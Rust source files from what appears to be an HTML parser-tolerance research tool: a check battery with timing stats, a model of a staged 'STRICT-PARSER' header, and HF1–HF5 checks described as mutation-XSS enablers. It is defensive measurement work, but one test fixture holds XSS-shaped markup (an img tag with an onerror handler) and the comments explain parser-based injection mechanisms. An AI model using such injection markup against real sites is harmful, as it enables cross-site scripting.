    pub fn run_str(&mut self, raw: &str) -> PageReport {
        let cx = CheckContext::new(raw);
        self.run(&cx)
    }

    /// Parse `raw` as a dynamically loaded HTML *fragment* (innerHTML
    /// semantics in the given context element) and run the battery over
    /// it — the §5.1 pre-study's unit of analysis.
    pub fn run_fragment(&mut self, raw: &str, context_element: &str) -> PageReport {
        let cx = CheckContext::fragment(raw, context_element);
        self.run(&cx)
    }

    /// Run the battery over a raw byte body, applying the study's UTF-8
    /// inclusion filter. Validation borrows — no decode-time copy is made.
    /// Returns `None` when the bytes are not valid UTF-8 (the document is
    /// excluded from measurement); the returned reference is valid until
    /// the next `run_*` call.
    pub fn run_bytes(&mut self, bytes: &[u8]) -> Option<&PageReport> {
        self.try_run_bytes(bytes, usize::MAX).ok()
    }

    /// Like [`Battery::run_bytes`], but with a structured verdict instead
    /// of trusting the input: says *why* a body was not analyzed
    /// ([`InputError`]) and refuses bodies over `byte_budget` **before**
    /// decoding — the guard a fault-tolerant scan needs against oversized
    /// records. Pass `usize::MAX` for no budget.
    pub fn try_run_bytes(
        &mut self,
        bytes: &[u8],
        byte_budget: usize,
    ) -> Result<&PageReport, InputError> {
        if bytes.len() > byte_budget {
            return Err(InputError::TooLarge { len: bytes.len(), budget: byte_budget });
        }
        match spec_html::decoder::decode_utf8(bytes) {
            spec_html::decoder::Decoded::Utf8(text) => {
                let cx = CheckContext::new(text);
                Ok(self.run_ref(&cx))
            }
            spec_html::decoder::Decoded::NotUtf8 { valid_up_to } => {
                Err(InputError::NotUtf8 { valid_up_to })
            }
        }
    }

    /// A stats accumulator shaped to this battery (one slot per rule).
    pub fn new_stats(&self) -> BatteryStats {
        BatteryStats { per_check: self.kinds.iter().map(|&k| (k, CheckStats::default())).collect() }
    }

    /// Like [`Battery::run_ref`], additionally timing every rule into
    /// `stats` (which must come from [`Battery::new_stats`] on a battery
    /// with the same rule set). A rule's time and findings accumulate
    /// across its handler dispatches within the page and are recorded
    /// **once** per page, so `nanos.count` equals pages analyzed;
    /// [`CheckStats::dispatches`] additionally counts the individual
    /// handler calls.
    pub fn run_instrumented(
        &mut self,
        cx: &CheckContext<'_>,
        stats: &mut BatteryStats,
    ) -> &PageReport {
        assert_eq!(stats.per_check.len(), self.checks.len(), "stats shape mismatch");
        self.run_fused(cx, true);
        for (slot, s) in stats.per_check.iter_mut().zip(self.scratch.iter_mut()) {
            slot.1.record_page(s.fired, s.nanos);
            slot.1.dispatches += s.dispatches;
            *s = Scratch::default();
        }
        &self.report
    }
}

/// Per-rule observability counters. All fields merge by addition, so
/// worker-local stats combine into scan totals without locks.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct CheckStats {
    /// Pages on which the rule produced at least one finding.
    pub pages_fired: u64,
    /// Total findings across all pages.
    pub findings_total: u64,
    /// Handler dispatches the fused engine made to this rule (one per
    /// error/event/tag/node/finish item routed to it). Zero is omitted
    /// from the JSON, keeping stores from older builds byte-identical.
    #[serde(default, skip_serializing_if = "u64_is_zero")]
    pub dispatches: u64,
    /// Wall-time distribution of per-page rule executions (a page's
    /// dispatches to one rule are summed into one sample).
    pub nanos: DurationHistogram,
}

/// `skip_serializing_if` predicate for [`CheckStats::dispatches`].
fn u64_is_zero(n: &u64) -> bool {
    *n == 0
}

impl CheckStats {
    /// Account one page execution: `fired` findings produced in `nanos` ns.
    pub fn record_page(&mut self, fired: u64, nanos: u64) {
        if fired > 0 {
            self.pages_fired += 1;
        }
        self.findings_total += fired;
        self.nanos.record(nanos);
    }

    pub fn merge(&mut self, other: &CheckStats) {
        self.pages_fired += other.pages_fired;
        self.findings_total += other.findings_total;
        self.dispatches += other.dispatches;
        self.nanos.merge(&other.nanos);
    }
}

/// Log₂-bucketed histogram of nanosecond durations: bucket *i* counts
/// samples in `[2^i, 2^(i+1))` (bucket 0 additionally holds 0 ns). Exact
/// count and sum ride along, so means stay precise while the buckets give
/// the shape. Addition-only, hence mergeable across workers.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DurationHistogram {
    pub buckets: Vec<u64>,
    pub count: u64,
    pub sum_nanos: u64,
}

/// 2^47 ns ≈ 39 hours — no single rule execution exceeds this.
const HISTOGRAM_BUCKETS: usize = 48;

impl Default for DurationHistogram {
    fn default() -> Self {
        DurationHistogram { buckets: vec![0; HISTOGRAM_BUCKETS], count: 0, sum_nanos: 0 }
    }
}

impl DurationHistogram {
    pub fn record(&mut self, nanos: u64) {
        let bucket = if nanos < 2 {
            0
        } else {
            ((63 - nanos.leading_zeros()) as usize).min(HISTOGRAM_BUCKETS - 1)
        };
        self.buckets[bucket] += 1;
        self.count += 1;
        self.sum_nanos += nanos;
    }

    pub fn merge(&mut self, other: &DurationHistogram) {
        if self.buckets.len() < other.buckets.len() {
            self.buckets.resize(other.buckets.len(), 0);
        }
        for (b, o) in self.buckets.iter_mut().zip(&other.buckets) {
            *b += o;
        }
        self.count += other.count;
        self.sum_nanos += other.sum_nanos;
    }

    /// Mean duration in nanoseconds (0 when empty).
    pub fn mean_nanos(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.sum_nanos as f64 / self.count as f64
        }
    }

    /// Upper edge (exclusive) of the highest non-empty bucket, in ns.
    pub fn max_bucket_nanos(&self) -> u64 {
        match self.buckets.iter().rposition(|&c| c > 0) {
            Some(i) => 1u64 << (i as u32 + 1).min(63),
            None => 0,
        }
    }
}

/// Per-battery stats: one [`CheckStats`] per rule, in execution order.
/// Produced by [`Battery::new_stats`], filled by
/// [`Battery::run_instrumented`], merged across workers with
/// [`BatteryStats::merge`].
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct BatteryStats {
    pub per_check: Vec<(ViolationKind, CheckStats)>,
}

impl BatteryStats {
    /// Fold another worker's stats into this one. Both must describe the
    /// same battery shape.
    pub fn merge(&mut self, other: &BatteryStats) {
        assert_eq!(
            self.per_check.len(),
            other.per_check.len(),
            "cannot merge stats of different batteries"
        );
        for ((k, s), (ok, os)) in self.per_check.iter_mut().zip(&other.per_check) {
            assert_eq!(*k, *ok, "battery kind order mismatch");
            s.merge(os);
        }
    }

    /// Stats for one kind, if the battery ran it.
    pub fn get(&self, kind: ViolationKind) -> Option<&CheckStats> {
        self.per_check.iter().find(|(k, _)| *k == kind).map(|(_, s)| s)
    }

    /// Total findings across all rules.
    pub fn findings_total(&self) -> u64 {
        self.per_check.iter().map(|(_, s)| s.findings_total).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const DIRTY: &str = "<img src=a src=b><div id=x id=y><p/ class=c><a href=\"u\"title=t>";

    /// The deprecated one-shot shims must stay observationally identical
    /// to the Battery methods they delegate to for the release they
    /// survive.
    #[test]
    #[allow(deprecated)]
    fn deprecated_shims_agree_with_battery_methods() {
        let mut battery = Battery::full();
        let a = battery.run_str(DIRTY);
        let b = checkers::check_page(DIRTY);
        assert_eq!(a.findings, b.findings);
        assert_eq!(a.mitigations, b.mitigations);

        let frag = "<img src=a src=b>";
        let via_method = battery.run_fragment(frag, "div");
        let via_shim = checkers::check_fragment(frag);
        assert_eq!(via_method.findings, via_shim.findings);

        let cx = CheckContext::new(DIRTY);
        assert_eq!(checkers::check_context(&cx).findings, battery.run(&cx).findings);
    }

    #[test]
    fn battery_reuse_is_stateless_across_pages() {
        let mut battery = Battery::full();
        let first = battery.run_str(DIRTY);
        // A clean page in between must not leak findings…
        let clean = battery.run_str("<!DOCTYPE html><html lang=en><head><meta charset=utf-8><title>t</title></head><body><p>ok</p></body></html>");
        assert!(clean.is_clean(), "leaked: {:?}", clean.findings);
        // …and re-running the dirty page reproduces the first result.
        let again = battery.run_str(DIRTY);
        assert_eq!(first.findings, again.findings);
    }

    #[test]
    fn run_bytes_filters_and_matches_run_str() {
        let mut battery = Battery::full();
        let via_str = battery.run_str(DIRTY);
        let via_bytes = battery.run_bytes(DIRTY.as_bytes()).expect("clean UTF-8").clone();
        assert_eq!(via_str.findings, via_bytes.findings);
        // Non-UTF-8 bodies are excluded, mirroring the paper's filter.
        assert!(battery.run_bytes(b"<p>gr\xFC\xDFe</p>").is_none());
        // A UTF-8 BOM is stripped before parsing.
        let bom = [b"\xEF\xBB\xBF".as_slice(), DIRTY.as_bytes()].concat();
        assert_eq!(battery.run_bytes(&bom).unwrap().findings, via_str.findings);
    }

    #[test]
    fn try_run_bytes_classifies_instead_of_trusting() {
        let mut battery = Battery::full();
        let ok = battery.try_run_bytes(DIRTY.as_bytes(), usize::MAX).unwrap().clone();
        assert_eq!(ok.findings, battery.run_str(DIRTY).findings);
        assert_eq!(
            battery.try_run_bytes(b"<p>gr\xFC\xDFe</p>", usize::MAX).err(),
            Some(InputError::NotUtf8 { valid_up_to: 5 })
        );
        // Budget is enforced on raw length, before any decode work.
        assert_eq!(
            battery.try_run_bytes(DIRTY.as_bytes(), 4).err(),
            Some(InputError::TooLarge { len: DIRTY.len(), budget: 4 })
        );
    }

    #[test]
    fn only_restricts_the_rule_set() {
        let mut fb = Battery::only(&[ViolationKind::FB1, ViolationKind::FB2]);
        assert_eq!(fb.kinds(), &[ViolationKind::FB1, ViolationKind::FB2]);
        let report = fb.run_str(DIRTY);
        assert!(report
            .findings
            .iter()
            .all(|f| matches!(f.kind, ViolationKind::FB1 | ViolationKind::FB2)));
    }

    #[test]
    fn only_preserves_taxonomy_order_regardless_of_input_order() {
        let battery = Battery::only(&[ViolationKind::FB2, ViolationKind::DE1]);
        assert_eq!(battery.kinds(), &[ViolationKind::DE1, ViolationKind::FB2]);
    }

    #[test]
    fn run_ref_avoids_realloc_after_first_page() {
        let mut battery = Battery::full();
        battery.run_ref(&CheckContext::new(DIRTY));
        let cap = battery.report.findings.capacity();
        for _ in 0..3 {
            battery.run_ref(&CheckContext::new(DIRTY));
            assert_eq!(battery.report.findings.capacity(), cap);
        }
    }

    #[test]
    fn instrumented_run_counts_every_rule_once_per_page() {
        let mut battery = Battery::full();
        let mut stats = battery.new_stats();
        let cx = CheckContext::new(DIRTY);
        battery.run_instrumented(&cx, &mut stats);
        battery.run_instrumented(&cx, &mut stats);
        for (kind, s) in &stats.per_check {
            assert_eq!(s.nanos.count, 2, "rule {kind} not timed on both pages");
        }
        // The instrumented findings agree with the plain run.
        let plain = battery.run(&cx);
        assert_eq!(stats.findings_total(), 2 * plain.findings.len() as u64);
    }

    #[test]
    fn fused_engine_matches_legacy_scans() {
        let cx = CheckContext::new(DIRTY);
        let fused = Battery::full().run(&cx);
        let legacy = checkers::legacy::run(&cx);
        assert_eq!(fused.findings, legacy.findings);
        assert_eq!(fused.mitigations, legacy.mitigations);
    }

    #[test]
    fn dispatch_counts_reflect_interest_masks() {
        let mut battery = Battery::full();
        let mut stats = battery.new_stats();
        let cx = CheckContext::new(DIRTY);
        battery.run_instrumented(&cx, &mut stats);
        battery.run_instrumented(&cx, &mut stats);
        // DE1 is finish-only: exactly one dispatch per page.
        assert_eq!(stats.get(ViolationKind::DE1).unwrap().dispatches, 2);
        // FB2 sees every parse error on both pages.
        let errors = cx.parse.errors.len() as u64;
        assert!(errors > 0);
        assert_eq!(stats.get(ViolationKind::FB2).unwrap().dispatches, 2 * errors);
        // DM1 walks every DOM element.
        let elements = cx.parse.dom.all_elements().count() as u64;
        assert_eq!(stats.get(ViolationKind::DM1).unwrap().dispatches, 2 * elements);
    }

    #[test]
    fn dispatch_scratch_resets_between_pages() {
        let mut battery = Battery::full();
        let mut stats = battery.new_stats();
        let cx = CheckContext::new(DIRTY);
        battery.run_instrumented(&cx, &mut stats);
        let after_one = stats.clone();
        battery.run_instrumented(&cx, &mut stats);
        for ((_, one), (_, two)) in after_one.per_check.iter().zip(&stats.per_check) {
            assert_eq!(2 * one.dispatches, two.dispatches);
            assert_eq!(2 * one.findings_total, two.findings_total);
        }
        // An uninstrumented run in between must not pollute the next
        // instrumented one.
        battery.run_ref(&cx);
        battery.run_instrumented(&cx, &mut stats);
        for ((_, one), (_, three)) in after_one.per_check.iter().zip(&stats.per_check) {
            assert_eq!(3 * one.dispatches, three.dispatches);
        }
    }

    #[test]
    fn stats_merge_is_additive() {
        let mut battery = Battery::full();
        let cx = CheckContext::new(DIRTY);
        let mut a = battery.new_stats();
        battery.run_instrumented(&cx, &mut a);
        let mut b = battery.new_stats();
        battery.run_instrumented(&cx, &mut b);
        battery.run_instrumented(&cx, &mut b);

        let mut merged = battery.new_stats();
        merged.merge(&a);
        merged.merge(&b);
        assert_eq!(merged.findings_total(), a.findings_total() + b.findings_total());
        for ((_, m), (_, x)) in merged.per_check.iter().zip(&a.per_check) {
            assert!(m.nanos.count == x.nanos.count * 3);
        }
    }

    #[test]
    fn histogram_buckets_are_log2() {
        let mut h = DurationHistogram::default();
        h.record(0);
        h.record(1);
        h.record(2);
        h.record(3);
        h.record(1024);
        assert_eq!(h.count, 5);
        assert_eq!(h.sum_nanos, 1030);
        assert_eq!(h.buckets[0], 2); // 0 and 1
        assert_eq!(h.buckets[1], 2); // 2 and 3
        assert_eq!(h.buckets[10], 1); // 1024
        assert_eq!(h.max_bucket_nanos(), 2048);
        assert!((h.mean_nanos() - 206.0).abs() < 1e-9);
    }

    #[test]
    fn stats_serialize_roundtrip() {
        let mut battery = Battery::full();
        let mut stats = battery.new_stats();
        battery.run_instrumented(&CheckContext::new(DIRTY), &mut stats);
        let v = serde::Serialize::to_value(&stats);
        let back: BatteryStats = serde::Deserialize::from_value(&v).unwrap();
        assert_eq!(back, stats);
    }
}
