//! The paper's §5.3.2 proposal, implemented: deprecating error tolerance
//! via a `STRICT-PARSER` header with staged enforcement.
//!
//! The roadmap: (1) add the Definition Violations as parser error states,
//! (2) warn in the developer console, (3) introduce a header with three
//! modes — `strict` blocks every deprecated violation, `unsafe` ignores the
//! deprecation, and `default` blocks only an *enforced list* that starts
//! with the violations that rarely appear (math-related, dangling markup)
//! and grows as usage decays, until `default` equals `strict`. Each mode
//! may carry a monitor URL notified on violations.
//!
//! This module models that machinery so the rollout can be simulated
//! against measurement data: [`evaluate`] decides what a compliant parser
//! would do with a page, and the pipeline's aggregation can answer the
//! deployment question the paper poses — *how much of the web breaks at
//! each stage?*

use crate::report::PageReport;
use crate::taxonomy::ViolationKind;
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;

/// The three header modes of §5.3.2.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum StrictMode {
    /// Opt-in to full enforcement: any deprecated violation blocks.
    Strict,
    /// Opt-out fallback: violations are tolerated (legacy behaviour).
    Unsafe,
    /// No header / default: only the enforced list blocks.
    Default,
}

/// A parsed `STRICT-PARSER` header value, e.g.
/// `strict; report-to https://example.com/monitor`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct StrictPolicy {
    pub mode: StrictMode,
    /// Monitor endpoint to notify on violations (all modes support it, so
    /// sites can measure before enforcing).
    pub monitor: Option<String>,
}

impl StrictPolicy {
    pub fn strict() -> Self {
        StrictPolicy { mode: StrictMode::Strict, monitor: None }
    }

    pub fn default_mode() -> Self {
        StrictPolicy { mode: StrictMode::Default, monitor: None }
    }

    /// Parse a header value: `<mode> [; report-to <url>]`.
    pub fn parse(header: &str) -> Option<StrictPolicy> {
        let mut parts = header.split(';').map(str::trim);
        let mode = match parts.next()?.to_ascii_lowercase().as_str() {
            "strict" => StrictMode::Strict,
            "unsafe" => StrictMode::Unsafe,
            "default" | "" => StrictMode::Default,
            _ => return None,
        };
        let mut monitor = None;
        for p in parts {
            if let Some(url) = p.strip_prefix("report-to ") {
                monitor = Some(url.trim().to_owned());
            }
        }
        Some(StrictPolicy { mode, monitor })
    }

    /// Render back to a header value.
    pub fn to_header(&self) -> String {
        let mode = match self.mode {
            StrictMode::Strict => "strict",
            StrictMode::Unsafe => "unsafe",
            StrictMode::Default => "default",
        };
        match &self.monitor {
            Some(url) => format!("{mode}; report-to {url}"),
            None => mode.to_owned(),
        }
    }
}

/// The staged enforcement list for `default` mode. Stages follow the
/// paper's ordering principle: "In the beginning, this list contains
/// violations that rarely appear in our analysis, such as all math
/// element-related violations or dangling markup. Every time the usage of
/// a violation decreases enough, it is added to the enforced list."
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct EnforcementList {
    enforced: BTreeSet<ViolationKind>,
}

impl EnforcementList {
    /// An explicit list.
    pub fn new(kinds: impl IntoIterator<Item = ViolationKind>) -> Self {
        EnforcementList { enforced: kinds.into_iter().collect() }
    }

    /// Stage `n` of the rollout (0 = nothing enforced, 4 = everything):
    /// each stage adds the next band of violations by their measured
    /// prevalence in the study (Figure 8), rarest first.
    pub fn stage(n: u8) -> Self {
        use ViolationKind::*;
        let bands: [&[ViolationKind]; 4] = [
            // < 1% of domains: math violations and exotic dangling markup.
            &[HF5_3, DE1, DE2, DE3_3, HF5_2],
            // 1–10%: the remaining DE family and stray base tags.
            &[DM2_1, DM2_2, DE3_1, DE3_2, DE4, DM1, HF5_1],
            // 10–40%: structural HTML-formatting tolerance.
            &[DM2_3, HF1, HF2, HF3, HF4, FB1],
            // The giants: attribute-level tolerance.
            &[FB2, DM3],
        ];
        let mut enforced = BTreeSet::new();
        for band in bands.iter().take(n as usize) {
            enforced.extend(band.iter().copied());
        }
        EnforcementList { enforced }
    }

    /// The final stage, where `default` behaves like `strict`.
    pub fn full() -> Self {
        EnforcementList { enforced: ViolationKind::ALL.into_iter().collect() }
    }

    pub fn contains(&self, kind: ViolationKind) -> bool {
        self.enforced.contains(&kind)
    }

    pub fn kinds(&self) -> impl Iterator<Item = ViolationKind> + '_ {
        self.enforced.iter().copied()
    }

    pub fn len(&self) -> usize {
        self.enforced.len()
    }

    pub fn is_empty(&self) -> bool {
        self.enforced.is_empty()
    }
}

/// What a compliant parser does with a page under a policy.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Decision {
    /// No deprecated violation applies: render normally.
    Render,
    /// Violations present but not blocking under this mode: render and
    /// (if configured) notify the monitor.
    RenderWithWarnings { warned: BTreeSet<ViolationKind> },
    /// Blocking violations: show the error page instead.
    Block { blocking: BTreeSet<ViolationKind> },
}

impl Decision {
    pub fn is_blocked(&self) -> bool {
        matches!(self, Decision::Block { .. })
    }
}

/// A monitor notification (what would be POSTed to the report-to URL).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct MonitorReport {
    pub url: String,
    pub violations: BTreeSet<ViolationKind>,
    pub blocked: bool,
}

/// Evaluate a checked page against a policy and enforcement list.
pub fn evaluate(
    report: &PageReport,
    policy: &StrictPolicy,
    enforced: &EnforcementList,
) -> (Decision, Option<MonitorReport>) {
    let kinds = report.kinds();
    let decision = if kinds.is_empty() {
        Decision::Render
    } else {
        let blocking: BTreeSet<ViolationKind> = match policy.mode {
            StrictMode::Strict => kinds.clone(),
            StrictMode::Unsafe => BTreeSet::new(),
            StrictMode::Default => {
                kinds.iter().copied().filter(|k| enforced.contains(*k)).collect()
            }
        };
        if blocking.is_empty() {
            Decision::RenderWithWarnings { warned: kinds.clone() }
        } else {
            Decision::Block { blocking }
        }
    };
    let monitor = policy.monitor.as_ref().filter(|_| !kinds.is_empty()).map(|url| MonitorReport {
        url: url.clone(),
        violations: kinds,
        blocked: decision.is_blocked(),
    });
    (decision, monitor)
}

#[cfg(test)]
mod tests {
    use super::*;
    /// Test-local one-shot over the new Battery API (the deprecated
    /// free-function shim delegates to exactly this).
    fn check_page(raw: &str) -> crate::report::PageReport {
        crate::Battery::full().run_str(raw)
    }

    const VIOLATING: &str = r#"<img src="x.png"onerror="a()"><table><tr><b>t</b></tr></table>"#;
    const RARE_ONLY: &str = "<body><select><option>a\nrest swallowed";
    const CLEAN: &str =
        "<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>";

    #[test]
    fn header_parse_roundtrip() {
        for raw in ["strict", "unsafe", "default", "strict; report-to https://m.example/r"] {
            let p = StrictPolicy::parse(raw).unwrap();
            assert_eq!(StrictPolicy::parse(&p.to_header()), Some(p));
        }
        assert_eq!(StrictPolicy::parse("bogus"), None);
        assert_eq!(
            StrictPolicy::parse("default; report-to https://m/x").unwrap().monitor.as_deref(),
            Some("https://m/x")
        );
    }

    #[test]
    fn stages_grow_monotonically() {
        let mut prev = 0;
        for n in 0..=4 {
            let stage = EnforcementList::stage(n);
            assert!(stage.len() >= prev, "stage {n} shrank");
            prev = stage.len();
        }
        assert_eq!(EnforcementList::stage(4), EnforcementList::full());
        assert!(EnforcementList::stage(0).is_empty());
        // Stage 1 holds only the rare violations.
        let s1 = EnforcementList::stage(1);
        assert!(s1.contains(ViolationKind::HF5_3));
        assert!(s1.contains(ViolationKind::DE1));
        assert!(!s1.contains(ViolationKind::FB2));
    }

    #[test]
    fn clean_page_always_renders() {
        let report = check_page(CLEAN);
        for mode in [StrictMode::Strict, StrictMode::Unsafe, StrictMode::Default] {
            let policy = StrictPolicy { mode, monitor: None };
            let (d, m) = evaluate(&report, &policy, &EnforcementList::full());
            assert_eq!(d, Decision::Render);
            assert!(m.is_none());
        }
    }

    #[test]
    fn strict_blocks_everything() {
        let report = check_page(VIOLATING);
        let (d, _) = evaluate(&report, &StrictPolicy::strict(), &EnforcementList::stage(0));
        assert!(d.is_blocked());
    }

    #[test]
    fn unsafe_never_blocks() {
        let report = check_page(VIOLATING);
        let policy = StrictPolicy { mode: StrictMode::Unsafe, monitor: None };
        let (d, _) = evaluate(&report, &policy, &EnforcementList::full());
        assert!(!d.is_blocked());
        assert!(matches!(d, Decision::RenderWithWarnings { .. }));
    }

    #[test]
    fn default_blocks_only_enforced() {
        let report = check_page(VIOLATING); // FB2 + HF4: common violations
                                            // Early rollout stage: FB2/HF4 not yet enforced.
        let (d, _) = evaluate(&report, &StrictPolicy::default_mode(), &EnforcementList::stage(1));
        assert!(!d.is_blocked(), "{d:?}");
        // Stage 3 enforces HF4.
        let (d, _) = evaluate(&report, &StrictPolicy::default_mode(), &EnforcementList::stage(3));
        assert!(d.is_blocked());
    }

    #[test]
    fn rare_violations_block_first() {
        let report = check_page(RARE_ONLY); // DE2
        let (d, _) = evaluate(&report, &StrictPolicy::default_mode(), &EnforcementList::stage(1));
        assert!(d.is_blocked(), "DE2 is in the first enforcement band: {d:?}");
    }

    /// A compliant `default`-mode parser only needs to run the *enforced*
    /// rules to decide blocking — [`crate::Battery::only`] restricted to
    /// the enforcement list fires exactly when `evaluate` blocks.
    #[test]
    fn battery_restricted_to_enforced_list_agrees_on_blocking() {
        for n in 0..=4 {
            let list = EnforcementList::stage(n);
            let enforced: Vec<ViolationKind> = list.kinds().collect();
            let mut battery = crate::Battery::only(&enforced);
            assert_eq!(battery.len(), list.len());
            for page in [VIOLATING, RARE_ONLY, CLEAN] {
                let (decision, _) =
                    evaluate(&check_page(page), &StrictPolicy::default_mode(), &list);
                let restricted = battery.run_str(page);
                assert_eq!(
                    !restricted.findings.is_empty(),
                    decision.is_blocked(),
                    "stage {n}, page {page:?}"
                );
            }
        }
    }

    #[test]
    fn monitor_reports_fire_in_all_modes() {
        let report = check_page(VIOLATING);
        let policy = StrictPolicy {
            mode: StrictMode::Unsafe,
            monitor: Some("https://monitor.example/v".into()),
        };
        let (_, m) = evaluate(&report, &policy, &EnforcementList::stage(0));
        let m = m.expect("monitor report");
        assert!(!m.blocked);
        assert!(m.violations.contains(&crate::ViolationKind::FB2));
    }
}
