//! HTML Formatting checks (HF1–HF5, §3.2) — the mXSS enablers.

use super::{Check, Interest};
use crate::context::CheckContext;
use crate::report::Finding;
use crate::taxonomy::ViolationKind;
use spec_html::dom::{Namespace, NodeId};
use spec_html::tokenizer::Tag;
use spec_html::{tags, TreeEvent, TreeEventKind};

/// HF1 — broken head section: head tags omitted, or non-head content inside
/// the head forcing the parser to relocate everything that follows. The
/// paper treats *any* implicit head handling as a violation ("Instead of
/// handling such omitted head tags implicitly, the parser should only
/// arrange elements explicitly").
pub struct Hf1;

impl Check for Hf1 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF1
    }

    fn interest(&self) -> Interest {
        Interest::EVENTS
    }

    fn on_tree_event(&mut self, _cx: &CheckContext<'_>, ev: &TreeEvent, out: &mut Vec<Finding>) {
        match &ev.kind {
            TreeEventKind::ImplicitHead => {
                out.push(Finding::new(ViolationKind::HF1, ev.offset, "head tag omitted"));
            }
            TreeEventKind::HeadClosedBy { tag } => {
                out.push(Finding::new(
                    ViolationKind::HF1,
                    ev.offset,
                    format!("head implicitly closed by <{tag}>"),
                ));
            }
            TreeEventKind::LateHeadContent { tag } => {
                out.push(Finding::new(
                    ViolationKind::HF1,
                    ev.offset,
                    format!("head content <{tag}> after head was closed"),
                ));
            }
            _ => {}
        }
    }
}

/// HF2 — content before `body`: the body element was opened implicitly by a
/// token that should not have been there (enables the Figure-4 attack where
/// a dangling tag absorbs `<body onload=check()>`).
#[derive(Default)]
pub struct Hf2 {
    /// Offset of the most recent `HeadClosedBy` event. Event offsets are
    /// non-decreasing and all events of one token are contiguous, so "is
    /// there a `HeadClosedBy` at this `ImplicitBody`'s offset" reduces to
    /// comparing against the last one seen — the O(events²) rescan the
    /// pre-fusion checker did is equivalent to this one-flag accumulator.
    head_closed_at: Option<usize>,
}

impl Check for Hf2 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF2
    }

    fn interest(&self) -> Interest {
        Interest::EVENTS
    }

    fn reset(&mut self) {
        self.head_closed_at = None;
    }

    fn on_tree_event(&mut self, _cx: &CheckContext<'_>, ev: &TreeEvent, out: &mut Vec<Finding>) {
        match &ev.kind {
            TreeEventKind::HeadClosedBy { .. } => self.head_closed_at = Some(ev.offset),
            // When a misplaced element *inside the head* forces the head
            // closed, the spec reprocesses that same token and implies a
            // body — a consequence of the HF1 violation, not an independent
            // "content before body". Only bodies implied by content after a
            // regularly closed head count as HF2.
            TreeEventKind::ImplicitBody { by } if self.head_closed_at != Some(ev.offset) => {
                out.push(Finding::new(
                    ViolationKind::HF2,
                    ev.offset,
                    format!("body implicitly opened by {by}"),
                ));
            }
            _ => {}
        }
    }
}

/// HF3 — multiple `body` elements: the parser merges attributes of later
/// bodies into the first (§13.2.6.4.7), so injections can add or be blocked
/// by attributes.
///
/// "Multiple body elements" means the *markup* contains more than one
/// `<body>` start tag (the parser merge can also fire against an implied
/// body, which is HF1/HF2 territory, not HF3) — so this rule correlates
/// the tag stream with the merge event, accumulating across both passes
/// and emitting in `finish`.
#[derive(Default)]
pub struct Hf3 {
    body_tags: usize,
    second_body_offset: usize,
    /// (new, ignored) attr counts of the first `SecondBodyMerged` event.
    merged_attrs: Option<(usize, usize)>,
}

impl Check for Hf3 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF3
    }

    fn interest(&self) -> Interest {
        Interest::EVENTS | Interest::START_TAGS | Interest::FINISH
    }

    fn reset(&mut self) {
        self.body_tags = 0;
        self.second_body_offset = 0;
        self.merged_attrs = None;
    }

    fn on_tree_event(&mut self, _cx: &CheckContext<'_>, ev: &TreeEvent, _out: &mut Vec<Finding>) {
        if self.merged_attrs.is_none() {
            if let TreeEventKind::SecondBodyMerged { new_attrs, ignored_attrs } = &ev.kind {
                self.merged_attrs = Some((new_attrs.len(), ignored_attrs.len()));
            }
        }
    }

    fn on_start_tag(&mut self, _cx: &CheckContext<'_>, tag: &Tag, _out: &mut Vec<Finding>) {
        if tag.name == "body" {
            self.body_tags += 1;
            if self.body_tags == 2 {
                self.second_body_offset = tag.offset;
            }
        }
    }

    fn finish(&mut self, _cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        if self.body_tags >= 2 {
            // Attach the merge evidence when the parser recorded it.
            let detail = match self.merged_attrs {
                Some((new, ignored)) => format!(
                    "{} body tags; merge added {new} and ignored {ignored} attrs",
                    self.body_tags
                ),
                None => format!("{} body start tags in markup", self.body_tags),
            };
            out.push(Finding::new(ViolationKind::HF3, self.second_body_offset, detail));
        }
    }
}

/// HF4 — broken table: content that is not allowed in table structure gets
/// foster-parented in front of the table (the Figure-1/Figure-11 mechanism).
/// Note that *omitted* `tbody` tags are legal and do not count.
pub struct Hf4;

impl Check for Hf4 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF4
    }

    fn interest(&self) -> Interest {
        Interest::EVENTS
    }

    fn on_tree_event(&mut self, _cx: &CheckContext<'_>, ev: &TreeEvent, out: &mut Vec<Finding>) {
        if let TreeEventKind::FosterParented { tag } = &ev.kind {
            let what = tag.as_deref().unwrap_or("#text");
            out.push(Finding::new(
                ViolationKind::HF4,
                ev.offset,
                format!("{what} foster-parented out of table"),
            ));
        }
    }
}

/// HF5_1 — wrong namespace, HTML side: an element that only exists in SVG or
/// MathML parsed in the HTML namespace (an SVG fragment pasted without its
/// `<svg>` root, or left behind after a premature close).
pub struct Hf5_1;

impl Check for Hf5_1 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF5_1
    }

    fn interest(&self) -> Interest {
        Interest::DOM
    }

    fn on_node(&mut self, cx: &CheckContext<'_>, id: NodeId, out: &mut Vec<Finding>) {
        let Some(e) = cx.parse.dom.element(id) else { return };
        if e.ns == Namespace::Html && (tags::is_svg_only(&e.name) || tags::is_mathml_only(&e.name))
        {
            out.push(Finding::new(
                ViolationKind::HF5_1,
                e.src_offset,
                format!("foreign-only element <{}> in HTML namespace", e.name),
            ));
        }
    }
}

/// HF5_2 — wrong namespace, SVG side: an HTML breakout element inside SVG
/// content forced the parser back to HTML (§13.2.6.5's breakout list).
pub struct Hf5_2;

impl Check for Hf5_2 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF5_2
    }

    fn interest(&self) -> Interest {
        Interest::EVENTS
    }

